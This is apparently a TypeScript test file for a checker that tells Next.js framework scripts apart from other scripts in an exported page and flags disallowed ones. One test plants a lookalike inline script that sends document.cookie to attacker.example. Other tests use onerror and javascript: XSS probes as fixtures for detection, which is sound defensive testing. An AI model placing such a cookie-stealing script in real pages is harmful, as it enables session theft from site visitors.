import assert from 'node:assert/strict'
import { test } from 'node:test'
import { clientReferenceIds, flightChunk, frameworkElements } from './framework-output'
import { attr, childText, parseHtml } from './html'
import { scriptProblems } from './page-scripts'
import { inlineScripts } from '../../lib/page/inline-scripts'

// The shapes Next 16 writes into an exported page, as seen in out/ (shortened).
const page = `<!DOCTYPE html><html><head><meta charSet="utf-8"/>
<link rel="stylesheet" href="/_next/static/chunks/a.css"/>
<link rel="preload" as="script" fetchPriority="low" href="/_next/static/chunks/b.js"/>
<script src="/_next/static/chunks/c.js" async=""></script>
<script>${inlineScripts.theme.text}</script>
<script type="speculationrules">${inlineScripts.speculationRules.text}</script>
</head><body><h1>Title</h1>
<script type="application/ld+json">{"@type":"NewsArticle"}</script>
<script id="_R_">(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/b.js"],"runtimeModuleIds":[94553]});</script>
<script>(self.__next_f=self.__next_f||[]).push([0])</script>
<script>self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n3:I[39756,[\\"$2\\"],\\"default\\"]\\n"])</script>
</body></html>`

test('Next’s runtime scripts, script preloads, bootstrap and flight data are recognised; the stylesheet, the allowlisted scripts and JSON-LD are not', () => {
  const found = frameworkElements(parseHtml(page))
  const described = found.map((el) => attr(el, 'src') ?? attr(el, 'href') ?? childText(el).slice(0, 24))
  assert.deepEqual(described, [
    '/_next/static/chunks/b.js',
    '/_next/static/chunks/c.js',
    '(globalThis["TURBOPACK"]',
    '(self.__next_f=self.__ne',
    'self.__next_f.push([1,"1',
  ])
})

test('what remains of the page passes the allowlist', () => {
  const parsed = parseHtml(page)
  const framework = new Set(frameworkElements(parsed))
  assert.deepEqual(scriptProblems({ ...parsed, elements: parsed.elements.filter((el) => !framework.has(el)) }), [])
})

test('a script that only starts like flight data is not removed as framework output, and is reported', () => {
  const lookalike = page.replace('</body>', '<script>self.__next_f.push([1,"x"]);fetch("https://attacker.example/"+document.cookie)</script></body>')
  const parsed = parseHtml(lookalike)
  const framework = new Set(frameworkElements(parsed))
  const kept = parsed.elements.filter((el) => !framework.has(el))
  assert.ok(kept.some((el) => childText(el).includes('attacker.example')))
  assert.match(scriptProblems({ ...parsed, elements: kept }).join('\n'), /inline script that is not on the allowlist.*attacker/)
})

test('event handlers, script URLs, foreign scripts and broken JSON-LD are reported', () => {
  const bad = parseHtml(`<html><head><script src="https://cdn.example/x.js"></script></head><body>
<img src="/a.png" onerror="alert(1)"><a href=" javascript:alert(1)">x</a><script type="application/ld+json">{oops</script>
<script type="text/template">not allowlisted either</script></body></html>`)
  const problems = scriptProblems(bad).join('\n')
  assert.match(problems, /loads a script the site does not allow: "https:\/\/cdn\.example\/x\.js"/)
  assert.match(problems, /<img> has an event-handler attribute onerror/)
  assert.match(problems, /<a href> holds a script URL/)
  assert.match(problems, /JSON-LD block that is not valid JSON/)
  assert.match(problems, /not on the allowlist.*not allowlisted either/)
})

test('client references are read from flight data rows', () => {
  const el = parseHtml(page).elements.find((e) => childText(e).startsWith('self.__next_f.push([1'))!
  assert.deepEqual(clientReferenceIds(flightChunk(el)!), [39756])
  assert.deepEqual(clientReferenceIds('0:["$","div",null,{"children":"3:I[1,2] is text, not a row"}]'), [])
})
